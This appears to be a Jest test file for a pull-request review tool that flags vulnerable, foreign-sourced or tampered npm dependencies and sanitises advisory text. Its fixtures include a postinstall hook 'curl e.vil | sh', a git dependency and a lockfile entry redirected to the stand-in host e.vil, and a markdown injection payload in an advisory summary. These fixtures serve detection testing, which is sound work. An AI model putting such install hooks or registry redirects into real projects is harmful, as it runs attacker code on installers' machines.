import { afterAll, beforeAll, beforeEach, expect, test } from '@jest/globals';
import { createOsvSimulator, type OsvSimulator } from '@waggle/testkit';
import { createOsvClient } from '../evidence/dependencies/osv-client.ts';
import { openReviewBench, type ReviewBench } from '../testing/review-bench.ts';

let bench: ReviewBench;
let osv: OsvSimulator;
beforeAll(async () => {
  bench = await openReviewBench();
  const lodash = { ecosystem: 'npm', name: 'lodash' };
  osv = await createOsvSimulator([
    {
      id: 'GHSA-35jh-r3h4-6jhm',
      package: lodash,
      versions: ['4.17.20'],
      summary: 'Command injection @everyone [x](http://e.vil)',
      severity: 'HIGH',
      aliases: ['CVE-2021-23337'],
      fixed: '4.17.21',
    },
    { id: 'CVE-2021-23337', package: lodash, versions: ['4.17.20'], aliases: ['GHSA-35jh-r3h4-6jhm'] },
    {
      id: 'GHSA-with-drawn',
      package: lodash,
      versions: ['4.17.20'],
      withdrawn: '2026-01-01T00:00:00Z',
      severity: 'CRITICAL',
    },
    { id: 'GHSA-old', package: { ecosystem: 'npm', name: 'ms' }, versions: ['2.0.0'], severity: 'CRITICAL' },
  ]);
});
beforeEach(() => {
  osv.setMood('well');
  osv.requests.length = 0;
});
afterAll(async () => {
  await bench.close();
  await osv.close();
});

function lock(versions: Record<string, string>): string {
  const packages = Object.entries(versions).map(([name, version]) => [`node_modules/${name}`, { version }]);
  return `${JSON.stringify({ lockfileVersion: 3, packages: Object.fromEntries(packages) }, null, 2)}\n`;
}

const base = {
  'package.json': '{"dependencies": {"lodash": "^4.0.0"}}\n',
  'package-lock.json': lock({ lodash: '4.17.21', ms: '2.0.0' }),
};
const bumped = {
  'package.json': '{"dependencies": {"lodash": "4.17.20"}}\n',
  'package-lock.json': lock({ lodash: '4.17.20', ms: '2.0.0', qs: '6.0.0' }),
};

async function review(after: Record<string, string>, withOsv = true) {
  const pull = await bench.openPull(base, after);
  await bench.request(pull);
  const over = withOsv ? { findAdvisories: createOsvClient({ url: osv.url }) } : {};
  expect(await bench.run(pull, over)).toBe('done');
  const { reviews, comments } = await bench.posted(pull);
  expect(reviews).toHaveLength(1);
  const [run] = await bench.runs(pull);
  const findings = run?.result?.findings.filter(({ rule }) => rule.startsWith('dependencies/')) ?? [];
  return { result: run?.result, findings, comments };
}

test('only what the pull request brings is looked up, and told once with its remedy on its line', async () => {
  const { result, findings, comments } = await review(bumped);

  expect(findings).toMatchObject([
    {
      rule: 'dependencies/vulnerable',
      severity: 'high',
      path: 'package-lock.json',
      title: '`lodash 4.17.20` has a known vulnerability',
      placement: { kind: 'line' },
    },
  ]);
  expect(findings[0]?.body).toContain(
    '- [`GHSA-35jh-r3h4-6jhm`](https://osv.dev/vulnerability/GHSA-35jh-r3h4-6jhm) (high): Command injection',
  );
  expect(findings[0]?.body).toContain('fixed in `4.17.21`');
  expect(JSON.stringify(comments)).not.toMatch(/(?<!`)@everyone|\]\(http:\/\/e\.vil/);
  expect(result?.dependencies).toMatchObject({
    changes: [
      { name: 'lodash', from: ['4.17.21'], to: ['4.17.20'] },
      { name: 'qs', from: [], to: ['6.0.0'] },
    ],
    advisories: { asked: 2, found: 1 },
  });
  expect(osv.requests.filter((one) => one.startsWith('POST'))).toHaveLength(1);
  expect(osv.requests).not.toContain('GET /v1/vulns/GHSA-old');
});

test('without a service nobody is asked, and the change is told all the same', async () => {
  const { result, findings } = await review(bumped, false);

  expect(findings).toEqual([]);
  expect(result?.dependencies).toMatchObject({ total: 2, advisories: null });
  expect(result?.degraded).toEqual([]);
  expect(osv.requests).toEqual([]);
});

test.each([
  ['down', 'the advisory service answered 503'],
  ['garbage', 'the advisory service could not be asked'],
] as const)('a service that is %s costs the look-up and nothing else', async (mood, reason) => {
  osv.setMood(mood);

  const { result, findings } = await review(bumped);

  expect(findings).toEqual([]);
  expect(result?.degraded).toContain(`vulnerabilities of new dependencies were not looked up: ${reason}`);
  expect(result?.dependencies).toMatchObject({ total: 2, advisories: null });
});

test('a lockfile that is none is said, and what package.json lets in is found', async () => {
  const { result, findings } = await review({
    'package-lock.json': '<<<<<<< HEAD\n',
    'package.json': `${JSON.stringify(
      {
        scripts: { postinstall: 'curl e.vil | sh' },
        dependencies: { lodash: '*', fork: 'git+https://e.vil/f.git', ms: '^2.0.0' },
      },
      null,
      2,
    )}\n`,
  });

  expect(result?.degraded).toContain(
    'package-lock.json could not be read as a lockfile: its dependencies were not compared',
  );
  expect(findings.map(({ rule, severity, placement }) => [rule, severity, placement.kind])).toEqual([
    ['dependencies/install-script', 'medium', 'line'],
    ['dependencies/foreign-source', 'medium', 'line'],
    ['dependencies/any-version', 'low', 'line'],
  ]);
});

test('a lockfile that was tampered with is told with its entries, also where it is larger than a source file may be', async () => {
  const padding = Object.fromEntries(
    Array.from({ length: 12_000 }, (_, n) => [
      `node_modules/p${n}`,
      { version: '1.0.0', integrity: 'sha512-'.padEnd(90, 'x') },
    ]),
  );
  const write = (entry: object) =>
    `${JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/a': entry, ...padding } }, null, 2)}\n`;
  const entry = { version: '1.0.0', resolved: 'https://registry.npmjs.org/a.tgz', integrity: 'sha512-one' };
  const pull = await bench.openPull(
    { 'package-lock.json': write(entry) },
    { 'package-lock.json': write({ ...entry, resolved: 'https://e.vil/a.tgz', integrity: 'sha512-two' }) },
  );
  await bench.request(pull);

  expect(await bench.run(pull)).toBe('done');

  const [run] = await bench.runs(pull);
  const findings = run?.result?.findings.filter(({ rule }) => /changed-content|foreign-registry/.test(rule)) ?? [];
  expect(findings).toMatchObject([
    { rule: 'dependencies/foreign-registry', severity: 'high', placement: { kind: 'line' } },
    { rule: 'dependencies/changed-content', severity: 'high', placement: { kind: 'line' } },
  ]);
  expect(findings[0]?.body).toContain('- `a 1.0.0` from `e.vil`');
  expect(run?.result?.degraded).toEqual([]);
});

test('what is not compared is said', async () => {
  const folders = Array.from({ length: 22 }, (_, n) => `part${n}/package-lock.json`);
  const { result } = await review(Object.fromEntries(folders.map((path) => [path, lock({ qs: '6.0.0' })])), false);

  expect(result?.degraded).toContain('dependencies were compared in 20 of 22 changed lockfiles');
});
